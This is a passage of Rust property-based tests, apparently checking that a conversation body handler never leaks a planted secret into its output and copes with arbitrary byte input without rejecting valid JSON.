        if let Ok(out) = conversation.body(planted.as_bytes(), NOW) {
            let out = String::from_utf8_lossy(&out.body).into_owned();
            prop_assert!(!out.contains(secret), "{}", out);
        }
    }

    #[test]
    fn any_bytes_are_survived(bytes in prop::collection::vec(prop_oneof![any::<u8>(), prop::sample::select(b"{}[]\",:\\u0".to_vec())], 0..300)) {
        let conversation = conversation();
        let valid = serde_json::from_slice::<Value>(&bytes).is_ok();
        let read = conversation.body(&bytes, NOW).is_ok();
        prop_assert!(read || !valid);
    }
}
